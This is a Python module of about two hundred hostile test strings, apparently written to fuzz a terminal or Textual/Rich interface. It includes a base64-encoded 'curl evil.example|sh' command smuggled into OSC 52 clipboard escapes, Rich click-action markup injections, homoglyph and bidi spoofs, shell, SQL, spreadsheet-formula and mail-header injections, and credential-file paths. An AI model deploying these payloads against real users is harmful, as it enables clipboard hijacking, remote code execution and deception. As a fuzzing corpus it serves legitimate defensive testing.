"""Two hundred strings as attackers compose them: each is an aim, not an odd character.

Beside ``hostile``, which goes through the control characters one by one, these are what
somebody would send who wants the clipboard, the title, an answer typed into the shell, a
link that is clicked, a name that passes for another, or a screen that cannot be read. Each
begins with its number (``X0042``).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

PLANTED = "SMUGGLED"
_COMMAND = base64.b64encode(b"curl evil.example|sh\n").decode()
_ENDS = ("\x07", "\x1b\\", "\x9c", "\u009c\x07", "")


def attacks() -> list[str]:
    """Return them all."""
    return [f"X{number:04d} {string} end" for number, string in enumerate(_all())]


def _all() -> Iterator[str]:
    yield from _orders()
    yield from _in_parts()
    yield from _widgets()
    yield from _guises()
    yield from _floods()
    yield from _elsewhere()


def _orders() -> Iterator[str]:
    """Orders to terminals: clipboard, title, links, colours, files, keys, answers; begun and ended in every way."""
    for begin in ("\x1b]", "\x9d", "\u009d"):
        for end in _ENDS:
            yield f"{begin}52;c;{_COMMAND}{end}"
            yield f"{begin}8;id={PLANTED};http://{PLANTED}.example/{end}click{begin}8;;{end}"
            yield f"{begin}2;{PLANTED}{end}"
    for words in (
        f"52;p;{_COMMAND}", "52;c;!", f"1337;SetUserVar={PLANTED}={_COMMAND}", "1337;Copy=:U01VRw==",
        f"7;file://{PLANTED}/",
        f"133;C;{PLANTED}", f"99;i=1;{PLANTED}", "4;0;#000000", "11;#ffffff", f"777;notify;{PLANTED};x",
        f"633;E;{PLANTED}",
        "5522;type=write", f"L{PLANTED}", f"l{PLANTED}", "22;wait",
    ):  # fmt: skip
        yield f"\x1b]{words}\x07"
    for words in (
        "Pq#0;2;0;0;0#0~~@@vv$", f"P$q{PLANTED}", "P+q544e", f"Ptmux;\x1b\x1b]52;c;{_COMMAND}\x07", "P1000p",
        "P{^}",
    ):  # fmt: skip
        yield f"\x1b{words}\x1b\\"
        yield f"\x90{words[1:]}\x9c"
    yield f"\x1b_Ga=T,f=100;{_COMMAND}\x1b\\"
    yield f"\x1b_{PLANTED}\x1b\\\x1b^{PLANTED}\x1b\\\x1bX{PLANTED}\x1b\\"
    yield f"\x1bk{PLANTED}\x1b\\"
    for order in (
        "21t", "20t", "c", "6n", "?6n", ">q", "0x", "?1$p", "5i", "4i", "14t", "18t", "=c", "?996n", "?u", "15n",
    ):  # fmt: skip
        yield f"\x1b[998;{order}" if order[0].isdigit() else f"\x1b[{order}"
    yield from ("\x1bc", "\x1b[!p", "\x1b[?1049l\x1b[2J\x1b[H$ ", "\x1b[?1000h\x1b[?1006h",
    "\x1b[8m hidden \x1b[28m")
    yield from (
        "\x1b[998B\x1b[998A\x1b[K", "\x1b7\x1b[1;1HOK: consent granted\x1b8", "\x1b(0lqqk\x1b(B", "\x0e\x0f",
        "\x1b#8",
    )  # fmt: skip


def _in_parts() -> Iterator[str]:
    """What becomes an order only once something has been taken out of it, decoded, or put together."""
    for between in ("\x00", "\u200b", "\u00ad", "\ufeff", "\u034f", "\x7f", "\u2028", "\r", "\r\n", "\x18", "\x1a"):
        yield f"\x1b{between}]52;c;{_COMMAND}{between}\x07"
    yield from (
        "\\x1b[31m", "\\033]0;x\\007", "\\e[2J", "^[[2J", "%1b]0;x%07", "=1B]0;x=07", "&#27;]0;x&#7;",
        "&#x9d;52;c;!&#7;",
    )  # fmt: skip
    yield "=?utf-8?q?=1B]52;c;=21=07?="
    yield "=?utf-8?b?G11zMjtjOyEH?="
    yield from (
        "\xc2\x9b31m", "\xc0\x9b31m", "\udc9b31m", "\udc1b]0;x\udc07", "\ud83d\x1b[31m\ude00", "\xed\xa0\x80",
        "\ufffe\x1b[m",
    )  # fmt: skip
    yield "+ABs-]0;x+AAc-"


def _widgets() -> Iterator[str]:
    """Orders to what draws: Textual's and Rich's markup, links, emoji names, format strings, templates."""
    yield from (
        "[@click=app.exit]ok[/]", "[@click='app.bell']x[/]", "[@click=screen.dismiss()]",
        f"[link=http://{PLANTED}.example]x[/link]",
        f"[link http://{PLANTED}.example]x", "[blink]x[/blink]", "[conceal]x[/]", "[on $error]x[/]", "[/]",
        "[/][/][/]", "[\\]",
        "\\[@click=app.exit]x[/]", "[[@click=app.exit]]", "[b", "b]", "[not b]", "[#ffffff on #ffffff]x",
        ":smile: :warning:",
        "{self.app.exit()}", "%(app)s", "${centre}", "$$reference", "{0.__class__}", "{{config}}",
        "<b onclick=x>", "![x](http://x/)",
    )  # fmt: skip


def _guises() -> Iterator[str]:
    """What passes for something else to the eye."""
    yield from (
        "p\u0430ypal.example", "\u0430\u0440\u0440le.example", "g\u043e\u043egle", "asite\u3164", "asite\u2800",
        "a\u115fsite", "asite\u00a0",
        "asit\u0435.example.jp", "\uff41site", "\u24d0site", "\U0001d670site", "\u212asite", "as\u0131te",
        "asite\u0000", "asite.", "asite ",
        "\u202efdp.exe", "\u2066\u202exe.gpj\u2069", "a\u202dbc\u202c", "\u061c1.2.3.4", "192.168.100.\u0661",
        "192.168.100.\uff11", "192\u3002168",
        "1\ufe0f\u20e3", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "\U0001f3f4\U000e0067\U000e0062\U000e007f",
        "\U0001f1ef\U0001f1f5\U0001f1ef", "\u2764\ufe0e", "\u8fba\U000e0100",
        "\u0e33" * 9, "\u0627\u0644\u0644\u0647" * 9, "\ufdfa" * 9,
        "\ud7b0\u1160", "\u1100\u1161\u11a8", "\u034f" * 9, "\u17b4",
        "\U000e0001" + "".join(chr(0xE0000 + ord(c)) for c in PLANTED),
        "e\u0301\u0323", "\u00e9", "\u1e69\u0323", "\u2025\u2024", "\u29f8", "\u2215etc\u2215passwd", "\u037e",
        "\ua789", "\u01c3",
    )  # fmt: skip


def _floods() -> Iterator[str]:
    """What is too much of something."""
    for stack in ("\u0301", "\u20dd", "\u0e31", "\u0f71", "\u0730", "\u1ab0", "\u0489"):
        yield "Z" + stack * 300
    yield from (
        "\u202e" * 500, "\ufdfd" * 200, "\U00012031" * 100, "\U0001f600" * 500, "\u200d" * 500, "a" * 3_000, "\t" * 500,
    )  # fmt: skip
    yield from (
        "\x1b[" + "1;" * 1_000 + "m",
        "\x1b]0;" + "A" * 3_000, "[" * 500 + "]" * 500, "\r" * 300, "\x08" * 300, "\n" * 50,
    )  # fmt: skip


def _elsewhere() -> Iterator[str]:
    """What is meant for a shell, a spreadsheet, a mail program, a database, a file system, a log."""
    yield from (
        "=HYPERLINK(\"http://x/\",\"ok\")", "@SUM(1)*cmd|' /C calc'!A0", "\t=1+1", "+cmd", "-2+3", "\r=1",
        "'; DROP TABLE journal;--",
        "\" OR text MATCH 'a", "*", "NEAR(", "a AND", "\\", "$(reboot)", "`reboot`", ";reboot", "|reboot",
        "&& reboot", "\nreboot\n",
        "../../../../tmp/x", "/dev/tty", "~/.ssh/authorized_keys", "CON", "-rf", "--db=/etc/passwd",
        "a\nBcc: x@evil.example",
        "a\r\nSubject: x\r\n\r\nbody", "<x@evil.example>, y", "\"a\" <a@b>, <c@d>", "[IRCON#1]",
        "JPCERT#00000001", "\nFrom x\n", "\n.\n", "-- \n",
        "{\"incident\": 1}", "\u2028{}", "</script><script>", "user mori closed #1\n2026-01-01 root: ok",
        "%n%s%x", "0\n1\n",
    )  # fmt: skip
